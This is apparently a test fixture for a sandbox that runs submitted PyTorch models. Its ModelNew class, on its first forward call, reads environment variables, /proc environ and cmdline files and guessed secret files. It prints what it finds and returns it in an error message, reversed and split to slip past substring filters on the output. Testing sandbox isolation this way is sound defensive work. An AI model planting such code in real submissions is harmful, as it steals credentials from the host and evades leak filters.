"""Attack, second form: load cleanly, then at the first call print every secret it can reach (to stdout
and stderr, whose tail comes back with a failure) and raise with them reversed and split, so that a
plain substring filter on the message misses them. In the box it finds nothing to carry."""

import contextlib
import os
import pathlib
import sys

import torch
import torch.nn as nn

SETUP: dict = {}  # filled in by the test: {"files": [paths an attacker would guess]}


def _loot() -> str:
    found = []
    for path in [*SETUP.get("files", []), "/proc/1/environ", f"/proc/{os.getppid()}/environ"]:
        with contextlib.suppress(OSError):
            found.append(pathlib.Path(path).read_text(errors="replace"))
    for pid in os.listdir("/proc"):
        with contextlib.suppress(OSError):
            found.append(pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"))
    found += [f"{k}={v}" for k, v in os.environ.items()]
    return "\n".join(found)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        loot = _loot()
        print(loot)
        print(loot, file=sys.stderr)
        raise ValueError("shape mismatch; debug: " + loot[::-1] + " | " + " ".join(loot))
